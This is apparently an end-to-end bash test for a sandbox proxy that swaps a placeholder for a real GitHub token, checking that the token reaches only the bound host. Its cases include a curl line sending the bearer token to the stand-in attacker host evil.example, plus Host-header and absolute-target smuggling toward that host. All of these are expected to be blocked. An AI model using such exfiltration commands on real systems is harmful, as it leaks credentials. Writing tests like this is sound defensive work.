#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# secrets-e2e (issue 13): a GitHub token the box never holds, through the real daemon, supervisor, guest and
# proxy, against tests/secrets/origin.py standing in for api.github.com (its name pinned by --resolve to the
# test namespace; nothing leaves the machine). One box, e1 --secret GH=env:GH@api.github.com,untrusted.example
# (the second name pinned to the same origin, whose certificate does not name it), nothing else allowed:
#   - `echo "$GH"` prints a placeholder tkbox_GH_<32 hex>; the box's env names the CA bundle for each runtime;
#   - curl, python3 and git trust the per-box CA: the boot self-test says so in tkbox.box, and a real request from
#     each to api.github.com with "Authorization: Bearer $GH" reaches the origin with the real value there and
#     nowhere else (the origin's own verdict); Accept-Encoding is rewritten to identity for the bound host;
#   - the origin echoes the value back raw, hex, base64 (both alphabets, 3 alignments), percent- and
#     JSON-escaped, in headers, chunked, in a trailer, gzip and deflate: the box gets none of it, and identity
#     bodies keep their length; a status below 100 is a 502 (F2); a request in the tunnel naming another Host, or
#     an absolute target naming another host (F3), an Upgrade or a request body with a Content-Encoding, is
#     refused and reaches no origin; an origin whose certificate does not verify is a 502 upstream-tls;
#   - `curl -H "Authorization: Bearer $GH" http://evil.example/` (off the allowlist) is blocked at once as a
#     leak: 403 secret-leak naming GH, no approval asked, nothing reaches evil.example;
#   - an exec whose command line, env, cwd or up-front stdin holds the value is refused (secret-in-exec) without
#     quoting it; a box whose bound host is also allowed as host:443 (a tunnel the proxy would not read) is refused;
#   - the bundle verifies and holds tkbox.secret.use (GH, api.github.com) per swap, tkbox.secret.leak (GH,
#     evil.example), tkbox.box with the secret's placeholder, hosts and header, tls (self-test) and
#     clock_offset_ms; neither the bundle, nor any file under the daemon's state dir, nor the daemon's and the
#     signer's logs, nor anything the box printed holds the value, its first 6 bytes, or its hex or base64.
#   tests/secrets/secrets-e2e.sh BUILD_DIR      (root; a few minutes under TCG)
set -u
BUILD=${1:?usage: secrets-e2e.sh BUILD_DIR}
source "$(cd "$(dirname "$0")" && pwd)/lib.sh"

sc_start e1 --secret GH=env:GH@api.github.com,untrusted.example
O=$WORK/e1 # everything the box printed goes under here (grepped for the value at the end)
mkdir -p "$O"

# ---- a bound host also allowed with port 443 would be a tcp:// tunnel the proxy does not read: refused -----
if sc_box e443 --secret GH=env:GH@api.github.com --allow api.github.com:443; then
	notok "a secret bound to a host allowed as host:443 is refused" "the box started"
	"$TKBOX" rm -f e443 >/dev/null 2>&1
else
	check "a secret bound to a host allowed as host:443 is refused, naming the entry" \
		grep -q 'allow entry for api.github.com:443 lets any protocol through' "$WORK/run-e443.err"
fi

# ---- the placeholder and the box's trust settings --------------------------------------------------------
inbox e1 30 sh -c 'echo "$GH"' >"$O/echo-gh.out"
PH=$(head -n 1 "$O/echo-gh.out")
check "echo \"\$GH\" prints a placeholder ($PH)" eval "[[ '$PH' =~ ^tkbox_GH_[0-9a-f]{32}$ ]]"
inbox e1 30 sh -c 'for k in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE PIP_CERT GIT_SSL_CAINFO NODE_EXTRA_CA_CERTS; do
	eval "echo $k=\$$k"; done; test -s /etc/tkbox/ca.pem && echo ca.pem-present' >"$O/env.out"
want="SSL_CERT_FILE=/etc/tkbox/ca-bundle.crt REQUESTS_CA_BUNDLE=/etc/tkbox/ca-bundle.crt CURL_CA_BUNDLE=/etc/tkbox/ca-bundle.crt PIP_CERT=/etc/tkbox/ca-bundle.crt GIT_SSL_CAINFO=/etc/tkbox/ca-bundle.crt NODE_EXTRA_CA_CERTS=/etc/tkbox/ca.pem ca.pem-present"
check "the box's env names the CA bundle for each runtime" test "$(tr '\n' ' ' <"$O/env.out")" = "$want "

# ---- real requests from each client: the value arrives in the bound header only ----------------------------
swapped() { # PATH: the origin got PATH with GH's value in Authorization, and nothing misplaced
	[ "$(sc_reqs "select(.path == \"$1\" and .ok and ([.found[] | select(.secret == \"GH\" and .allowed)] | length) == 1)" | grep -c .)" -ge 1 ]
}
out=$(inbox e1 120 sh -c 'curl -sS --max-time 90 -H "Authorization: Bearer $GH" https://api.github.com/curl' | tee "$O/curl.out")
check "curl https://api.github.com/ with \$GH: 200 from the origin ($out)" test "$out" = "tkbox-secrets-origin api.github.com /curl"
check "the origin got the real value in Authorization from curl" swapped /curl
out=$(inbox e1 120 python3 -c 'import os, urllib.request as u
r = u.Request("https://api.github.com/python3", headers={"Authorization": "Bearer " + os.environ["GH"]})
print(u.urlopen(r, timeout=90).read().decode().strip())' | tee "$O/python3.out")
check "python3 urllib with \$GH ($out)" test "$out" = "tkbox-secrets-origin api.github.com /python3"
check "the origin got the real value in Authorization from python3" swapped /python3
out=$(inbox e1 180 sh -c 'git -c http.extraHeader="Authorization: Bearer $GH" ls-remote https://api.github.com/repo.git' |
	tee "$O/git.out")
check "git ls-remote https://api.github.com/repo.git with \$GH ($(head -n 1 <<<"$out" | cut -c1-60))" grep -q 'refs/heads/main' <<<"$out"
check "the origin got the real value in Authorization from git" swapped /repo.git/info/refs
inbox e1 60 sh -c 'curl -sS --max-time 50 --compressed -H "Authorization: Bearer $GH" -o /dev/null https://api.github.com/ae' \
	>"$O/ae.out"
ae=$(sc_reqs 'select(.path == "/ae") | .accept_encoding' | head -n 1)
check "Accept-Encoding (curl --compressed) to the bound host is rewritten to identity (origin got $ae)" test "$ae" = '"identity"'

# ---- redaction: the origin echoes the value; the box never sees it ------------------------------------------
for kind in raw hex HEX b64 b64url b64off1 b64off2 pct json header chunked trailer gzip deflate all; do
	sc_py e1 120 fetch "$kind" "https://api.github.com/echo/$kind" 'Authorization: Bearer $GH' >"$O/echo-$kind.jsonl"
	st=$(jq -r .status "$O/echo-$kind.jsonl" 2>/dev/null)
	saw=$(sc_box_saw "$(jq -r '.raw // ""' "$O/echo-$kind.jsonl" 2>/dev/null)")
	got_len=$(sed -n 's/^len=//p' <<<"$saw")
	sent=$(sc_reqs "select(.path == \"/echo/$kind\") | .sent" | tail -n 1)
	found=$(grep '^found=\|^undecodable' <<<"$saw" | tr '\n' ' ')
	if [ "$st" = 200 ] && [ -z "$found" ] && swapped "/echo/$kind" &&
		{ [ "$kind" = header ] || [ "$got_len" = "$sent" ]; }; then
		ok "echo/$kind: the origin echoed the value, the box got none of it (body $got_len bytes as sent)"
	else
		notok "echo/$kind redacted" "status $st, box saw: ${found:-nothing}, body $got_len of $sent bytes" \
			"$(jq -c '{status, rule, error, body: (.body // "" | .[0:200])}' "$O/echo-$kind.jsonl" 2>/dev/null)"
	fi
done
inbox e1 120 sh -c 'curl -sS --max-time 90 -H "Authorization: Bearer $GH" https://api.github.com/echo/all;
	curl -sS --max-time 90 --raw -i -H "Authorization: Bearer $GH" https://api.github.com/echo/trailer' >"$O/curl-echo.out"
check "curl in the box: echo/all and the trailer echo printed ($(wc -c <"$O/curl-echo.out") bytes), no value in them" \
	eval "[ -s '$O/curl-echo.out' ] && grep -q '\[raw\]before' '$O/curl-echo.out' && ! sc_seen_in '$O/curl-echo.out'"

sc_py e1 60 fetch f2 https://api.github.com/status/099 'Authorization: Bearer $GH' >"$O/f2.jsonl"
check "a status below 100 from the bound host is a 502 (F2) ($(jq -c '{status, rule}' "$O/f2.jsonl"))" \
	test "$(jq -r .status "$O/f2.jsonl")" = 502
sc_py e1 60 fetch host-mismatch https://api.github.com/mismatch 'Authorization: Bearer $GH' 'X-SC-Host: evil.example' \
	>"$O/mismatch.jsonl"
st=$(jq -r .status "$O/mismatch.jsonl")
check "a request in api.github.com's tunnel with Host: evil.example is refused ($st $(jq -r .rule "$O/mismatch.jsonl"))" \
	eval "[[ '$st' =~ ^4 ]] && [ -z \"\$(sc_reqs 'select(.path == \"/mismatch\")')\" ]"
sc_py e1 60 fetch f3 https://api.github.com/ 'Authorization: Bearer $GH' 'X-SC-Target: http://evil.example/f3' >"$O/f3.jsonl"
st=$(jq -r .status "$O/f3.jsonl")
check "an absolute target naming evil.example inside the tunnel is refused (F3) ($st $(jq -r .rule "$O/f3.jsonl"))" \
	eval "[[ '$st' =~ ^4 ]] && [ -z \"\$(sc_reqs 'select(.path == \"/f3\" or .host == \"evil.example\")')\" ]"

sc_py e1 60 fetch upgrade https://api.github.com/upgrade 'Authorization: Bearer $GH' 'Connection: Upgrade' \
	'Upgrade: websocket' >"$O/upgrade.jsonl"
sc_py e1 60 fetch request-encoding https://api.github.com/renc 'Authorization: Bearer $GH' 'Content-Encoding: gzip' \
	'X-SC-Method: POST' 'X-SC-Body: not-really-gzip' >"$O/renc.jsonl"
sc_py e1 60 fetch upstream https://untrusted.example/untrusted 'Authorization: Bearer $GH' >"$O/upstream.jsonl"
for c in upgrade:upgrade:/upgrade renc:request-encoding:/renc upstream:upstream-tls:/untrusted; do
	IFS=: read -r f want path <<<"$c"
	st=$(jq -r .status "$O/$f.jsonl")
	rule=$(jq -r .rule "$O/$f.jsonl")
	check "refused: $f ($st $rule), nothing reached the origin" \
		eval "[[ '$st' =~ ^[45] ]] && [ '$rule' = '$want' ] && [ -z \"\$(sc_reqs 'select(.path == \"$path\")')\" ]"
done
echo "# the upstream-tls answer: $(jq -r '.body // ""' "$O/upstream.jsonl" | head -c 200)"

# ---- the reference demo's leak: plain HTTP to a host off the allowlist --------------------------------------
T1=$(t)
inbox e1 60 sh -c 'curl -sS -i --max-time 20 -H "Authorization: Bearer $GH" http://evil.example/' >"$O/evil.out"
took=$(elapsed "$T1")
st=$(head -n 1 "$O/evil.out" | tr -d '\r')
rule=$(grep -i '^tkbox-rule:' "$O/evil.out" | head -n 1 | tr -d '\r' | cut -d' ' -f2)
check "curl -H \"Authorization: Bearer \$GH\" http://evil.example/: $st [$rule] ($took s)" \
	eval "[[ '$st' == 'HTTP/1.1 403'* ]] && [ '$rule' = secret-leak ]"
check "the refusal names GH and evil.example" eval "grep -q 'GH' '$O/evil.out' && grep -q 'evil.example' '$O/evil.out'"
check "no approval was asked for evil.example" test "$(approvals_json | jq 'length')" = 0
check "nothing reached evil.example" test -z "$(sc_reqs 'select(.host == "evil.example")')"

# ---- the exec check ------------------------------------------------------------------------------------
refused_exec() { # NAME: rc 126, the rule named, the value not quoted
	local rc=$1 name=$2 f=$3
	if [ "$rc" = 126 ] && grep -q 'secret-in-exec' "$f" && grep -q 'GH' "$f" && ! sc_seen_in "$f" >/dev/null; then
		ok "exec refused: $name"
	else
		notok "exec refused: $name" "rc=$rc" "$(head -c 300 "$f" | sed "s/$SC_VALUE/<VALUE>/g")"
	fi
}
"$TKBOX" exec e1 -- echo "$SC_VALUE" >"$O/x-argv.out" 2>&1 </dev/null
refused_exec $? "the command line holds the value" "$O/x-argv.out"
"$TKBOX" exec e1 --env "TOKEN=$SC_VALUE" -- true >"$O/x-env.out" 2>&1 </dev/null
refused_exec $? "an env value holds it" "$O/x-env.out"
"$TKBOX" exec e1 --cwd "/tmp/$SC_VALUE" -- true >"$O/x-cwd.out" 2>&1 </dev/null
refused_exec $? "the cwd holds it" "$O/x-cwd.out"
printf 'token %s\n' "$SC_VALUE" | "$TKBOX" exec -i e1 -- cat >"$O/x-stdin.out" 2>&1
refused_exec $? "up-front stdin holds it" "$O/x-stdin.out"

# ---- the record ----------------------------------------------------------------------------------------
check "the origin's verdict: no value anywhere but the bound header ($(sc_verdict .violations))" \
	test "$(sc_verdict '.violations | length')" = 0
n_swaps=$(sc_verdict .swapped.GH)
"$TKBOX" stop e1 >/dev/null 2>&1
if eg_export_verify e1; then ok "e1's bundle verifies"; else notok "e1's bundle verifies" "$(tail -3 "$WORK/verify-e1.out" 2>/dev/null)"; fi
bundle_egress "$WORK/e1.tkb" >"$WORK/e1.records.jsonl" 2>/dev/null
R=$WORK/e1.records.jsonl
n_use=$(jq -s '[.[] | select(.kind == "tkbox.secret.use" and .data.name == "GH" and .data.host == "api.github.com")] | length' "$R")
check "tkbox.secret.use (GH, api.github.com): $n_use records for $n_swaps swaps the origin counted" \
	eval "[ '${n_use:-0}' -ge 3 ] && [ '${n_use:-0}' -ge '${n_swaps:-1}' ]"
leak=$(jq -c 'select(.kind == "tkbox.secret.leak") | .data' "$R" | head -n 1)
check "tkbox.secret.leak: $leak" \
	eval "jq -s -e 'any(.[]; .kind == \"tkbox.secret.leak\" and .data.name == \"GH\" and .data.host == \"evil.example\" and (.data.reason | length) > 0)' '$R' >/dev/null"
box=$(jq -c 'select(.kind == "tkbox.box") | .data' "$R" | head -n 1)
echo "# tkbox.box secrets: $(jq -c '.secrets' <<<"$box" 2>/dev/null), tls: $(jq -c '.tls' <<<"$box" 2>/dev/null), clock_offset_ms: $(jq -c '.clock_offset_ms' <<<"$box" 2>/dev/null)"
check "tkbox.box names the secret: GH, its placeholder, api.github.com, Authorization" eval \
	"jq -e --arg p '$PH' '.secrets == [{name: \"GH\", placeholder: \$p, hosts: [\"api.github.com\", \"untrusted.example\"], header: \"Authorization\"}]' <<<'$box' >/dev/null"
check "tkbox.box tls: the CA's sha256 and the self-test: curl, python3 and git ran and trust it" eval \
	"jq -e '(.tls.ca_sha256 | test(\"^[0-9a-f]{64}$\")) and ([\"curl\", \"python3\", \"git\"] - .tls.selftest.ran == []) and ([\"curl\", \"python3\", \"git\"] - .tls.selftest.trusted == [])' <<<'$box' >/dev/null"
check "tkbox.box clock_offset_ms is a number" eval "jq -e '.clock_offset_ms | type == \"number\"' <<<'$box' >/dev/null"
mkdir -p "$WORK/e1-bundle"
(cd "$WORK/e1-bundle" && python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extractall(".")' "$WORK/e1.tkb")
check "the bundle holds records ($(find "$WORK/e1-bundle" -type f | wc -l) files)" test -n "$(find "$WORK/e1-bundle" -type f)"
held=$(sc_seen_in "$WORK/e1-bundle" "$WORK/e1.tkb" "$R")
check "no value, first 6 bytes, hex or base64 of it in the bundle ${held:+(in: $held)}" test -z "$held"
held=$(sc_seen_in "$TKBOX_STATE_DIR" "$WORK/daemon.log" "$WORK/signer.log" "$WORK/signer")
check "nor in any file under the state dir, the daemon's log or the signer's files ${held:+(in: $held)}" test -z "$held"
held=$(sc_seen_in "$O" "$WORK"/run-*.out "$WORK"/run-*.err)
check "nor in anything the box printed ${held:+(in: $held)}" test -z "$held"

echo "# total $(elapsed "$T0") s"
echo "1..$((pass + fail))"
[ $fail -eq 0 ]
